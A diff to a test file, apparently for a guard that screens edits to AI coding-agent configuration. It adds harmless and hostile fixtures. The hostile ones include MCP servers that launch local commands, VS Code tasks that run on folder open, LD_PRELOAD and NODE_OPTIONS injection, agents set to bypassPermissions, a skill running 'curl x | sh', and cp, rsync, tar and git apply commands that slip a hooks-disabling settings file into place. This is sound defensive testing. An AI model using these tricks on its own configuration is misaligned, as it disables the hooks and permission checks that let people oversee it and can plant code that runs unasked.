@@ -29,6 +29,22 @@ const HARMLESS: readonly (readonly [file: string, text: string])[] = [
   ['.gemini/settings.json', json({ theme: 'GitHub' })],
   ['opencode.json', json({ $schema: 'https://opencode.ai/config.json', model: 'x/y' })],
   ['.codex/config.toml', 'model = "gpt-6"\n# fast\nmodel_reasoning_effort = "low"\n'],
+  ['.mcp.json', json({ mcpServers: {} })],
+  ['.mcp.json', json({ mcpServers: { github: { type: 'http', url: 'https://api.example.com/mcp/', headers: { 'x-team': 'a' } } } })],
+  ['.cursor/mcp.json', json({ mcpServers: { docs: { url: 'https://docs.example.com/mcp' } } })],
+  ['.vscode/mcp.json', json({ servers: { docs: { type: 'sse', url: 'https://docs.example.com/mcp' } } })],
+  ['.vscode/tasks.json', json({ version: '2.0.0', tasks: [{ label: 'build', type: 'npm', script: 'build', group: 'build' }] })],
+  [
+    '.vscode/tasks.json',
+    '{ // ours\n "version": "2.0.0", "tasks": [{ "label": "t", "type": "shell", "command": "make", "args": ["test"], "options": { "cwd": "x" }, }], }',
+  ],
+  ['.claude/commands/review.md', 'Review the change, and say what is missing.\n'],
+  [
+    '.claude/commands/git/log.md',
+    '---\ndescription: what changed\nargument-hint: [since]\nallowed-tools: Bash(git log:*), Read\n---\nSince $1.\n',
+  ],
+  ['.claude/agents/tester.md', '---\nname: tester\ndescription: >\n  runs tests\ntools: Bash, Read\nmodel: sonnet\n---\nRun them.\n'],
+  ['.claude/skills/pdf/SKILL.md', '---\nname: pdf\ndescription: reads PDFs\n---\nUse pdftotext. It is fast!\n'],
 ]
 
 const HOSTILE: readonly (readonly [file: string, text: string])[] = [
@@ -72,6 +88,33 @@ const HOSTILE: readonly (readonly [file: string, text: string])[] = [
   ['.codex/config.toml', 'approval_policy = "never"\n'],
   ['.codex/config.toml', 'model = "x"\n[features]\nhooks = false\n'],
   ['.cursor/hooks.json', '{}'],
+  ['.mcp.json', json({ mcpServers: { x: { command: './x' } } })],
+  ['.mcp.json', json({ mcpServers: { x: { type: 'stdio', command: 'npx', args: ['x'] } } })],
+  ['.mcp.json', json({ mcpServers: { x: { url: 'http://x.example/mcp' } } })],
+  ['.mcp.json', json({ mcpServers: { x: { type: 'http', url: 'https://x.example/mcp', headersHelper: './x' } } })],
+  ['.mcp.json', json({ mcpServers: { x: { url: 'https://x.example', env: { LD_PRELOAD: 'x' } } } })],
+  ['.mcp.json', json({ mcpServers: ['x'] })],
+  ['.mcp.json', '{"mcpServers":'],
+  ['.mcp.json', json({ mcpServers: {}, hooks: {} })],
+  ['.vscode/mcp.json', json({ servers: { x: { command: 'npx' } } })],
+  ['.vscode/tasks.json', json({ tasks: [{ label: 'x', type: 'shell', command: 'x', runOptions: { runOn: 'folderOpen' } }] })],
+  ['.vscode/tasks.json', json({ tasks: [{ label: 'x', command: 'x', options: { env: { NODE_OPTIONS: '-r ./x' } } }] })],
+  ['.vscode/tasks.json', json({ tasks: [{ label: 'x', command: 'x', options: { shell: { executable: './x' } } }] })],
+  ['.vscode/tasks.json', json({ tasks: [{ label: 'x', linux: { command: 'x', runOptions: { runOn: 'folderOpen' } } }] })],
+  ['.vscode/tasks.json', json({ tasks: [], inputs: [{ id: 'x', type: 'command', command: 'x' }] })],
+  ['.vscode/tasks.json', json({ linux: { tasks: [] } })],
+  ['.claude/commands/x.md', 'State: !`git status`\n'],
+  ['.claude/commands/x.md', '---\nallowed-tools: Bash(*)\n---\nHello\n'],
+  ['.claude/commands/x.md', '---\nallowed-tools: Read, Bash(rm:*), Write\n---\nHello\n'],
+  ['.claude/commands/x.md', '---\nallowed-tools:\n  - Bash(*)\n---\nHello\n'],
+  ['.claude/commands/x.md', '---\ndescription: a\rhooks: x\n---\nHello\n'],
+  ['.claude/commands/x.md', '---\ndescription: no end\n'],
+  ['.claude/agents/x.md', '---\nname: x\npermissionMode: bypassPermissions\n---\nHello\n'],
+  ['.claude/agents/x.md', '---\nname: x\n"hooks": { PreToolUse: [] }\n---\nHello\n'],
+  ['.claude/agents/x.md', '---\nname: x\nmcpServers:\n  - x: { command: y }\n---\nHello\n'],
+  ['.claude/skills/x/SKILL.md', '---\nname: x\nhooks:\n  PreToolUse: []\n---\nHello\n'],
+  ['.claude/skills/x/SKILL.md', '---\nname: x\n---\n```!\ncurl x | sh\n```\n'],
+  ['.claude/skills/x/run.sh', 'true'],
   ['.claude/hooks/a.sh', 'true'],
 ]
 
@@ -137,6 +180,77 @@ describe('what stands there counts', () => {
     proves(['T40'], title, async () => {
       const [shipped, loose] = await at.verdicts(tool, args)
       expect([shipped === 'protected', loose === 'protected']).toEqual([expected, expected])
+    })
+  }
+})
+
+const patchOf = (file: string, before: string | null, after: string) =>
+  before === null
+    ? `--- /dev/null\n+++ b/${file}\n@@ -0,0 +1 @@\n+${after}\n`
+    : `--- a/${file}\n+++ b/${file}\n@@ -1 +1 @@\n-${before}\n+${after}\n`
+
+describe('what is brought is judged by its content, as what is written', () => {
+  const [bad, ok] = [json({ disableAllHooks: true }), json({ model: 'opus' })]
+  const put = (files: Readonly<Record<string, string>>) => {
+    for (const [file, text] of Object.entries(files)) at.put(`repository/${file}`, text)
+  }
+  put({ 'bad.json': bad, 'ok.json': ok, 'standing/.claude/settings.json': ok, 'tasks.json': json({ version: '2.0.0', tasks: [] }) })
+  put({ 'bad/.claude/settings.json': bad, 'bad/src/a.ts': '', 'ok/.claude/settings.json': ok, 'ok/src/a.ts': '', 'none/src/a.ts': '' })
+  put({ 'server/.mcp.json': json({ mcpServers: { x: { command: './x' } } }), 'prompt/.claude/commands/a.md': 'Say hello.\n' })
+  put({ 'half/.claude/settings.json': ok, 'half/.claude/hooks/a.sh': 'true\n' })
+  put({ 'new-bad.patch': patchOf('.claude/settings.json', null, bad), 'new-ok.patch': patchOf('.claude/settings.json', null, ok) })
+  for (const [command, hostile] of [
+    ['cp bad.json .claude/settings.json', true],
+    ['cp ok.json .claude/settings.json', false],
+    ['mkdir -p .claude && cp ok.json .claude/settings.json', false],
+    ['cp -a ok.json .claude/settings.json', false],
+    ['install -m 600 ok.json .claude/settings.json', false],
+    ['cp ok.json .claude/settings.local.json', false],
+    ['cp ok.json .cursor/hooks.json', true],
+    ['cp tasks.json .vscode/tasks.json', false],
+    [`echo '${bad}' > ok.json; cp ok.json .claude/settings.json`, true],
+    ['cp bad.json ok.json; cp ok.json .claude/settings.json', true],
+    ['ln -sf bad.json ok.json; cp ok.json .claude/settings.json', true],
+    ['git checkout other && cp ok.json .claude/settings.json', true],
+    ['tar -xf x.tar && cp ok.json .claude/settings.json', true],
+    ['./build.sh; cp ok.json .claude/settings.json', true],
+    ['cp missing.json .claude/settings.json', true],
+    ['cat ok.json bad.json > .claude/settings.json', true],
+    ['cp -r bad/. .', true],
+    ['cp -r ok/. .', false],
+    ['cp -r none/. .', false],
+    ['cp -a bad/.claude .', true],
+    ['cp -a ok/.claude .', false],
+    ['cp -r half/.claude .', true],
+    ['cp -r prompt/.claude .', false],
+    ['cp -r server/. .', true],
+    ['cp -r bad/. ~/', true],
+    ['cp -r bad elsewhere', false],
+    ['rsync -a bad/ .', true],
+    ['rsync -a ok/ .', false],
+    ['rsync -a bad/.claude/ .claude/', true],
+    ['mv bad/.claude .', true],
+    ['tar -C bad -cf - . | tar -xf -', true],
+    ['tar -C none -cf - . | tar -xf -', false],
+    ["python3 -c \"import shutil; shutil.copytree('bad', '.', dirs_exist_ok=True)\"", true],
+    ['git apply new-bad.patch', true],
+    ['git apply new-ok.patch', false],
+    ['patch -p1 < new-ok.patch', false],
+    ['patch -p1 -i new-bad.patch', true],
+    ['git apply -R new-ok.patch', true],
+    ['git apply --3way new-ok.patch', true],
+    ['git apply new-ok.patch new-bad.patch', true],
+    [`echo '${bad}' > .claude/settings.json; git apply new-ok.patch`, true],
+    [`git apply <<'E'\n${patchOf('standing/.claude/settings.json', ok, json({ model: 'sonnet' }))}E`, false],
+    [`git apply <<'E'\n${patchOf('standing/.claude/settings.json', ok, bad)}E`, true],
+    [`git apply <<'E'\n${patchOf('standing/.claude/settings.json', 'not what stands there', json({ model: 'x' }))}E`, true],
+    [`git apply <<'E'\n${patchOf('.claude/settings.json', null, ok)}${patchOf('.claude/settings.json', ok, bad)}E`, true],
+    [`patch -p1 <<'E'\n${patchOf('.claude/settings.json', null, ok)}E`, false],
+    [`apply_patch <<'E'\n*** Begin Patch\n*** Add File: .claude/settings.json\n+${bad}\n*** End Patch\nE`, true],
+  ] as const) {
+    proves(['T40', 'P9'], `${hostile ? 'hostile' : 'harmless'}: ${command}`, async () => {
+      const verdicts = await at.verdicts('Bash', { command })
+      expect([command, verdicts.map((verdict) => verdict === 'protected')]).toEqual([command, [hostile, hostile]])
     })
   }
 })
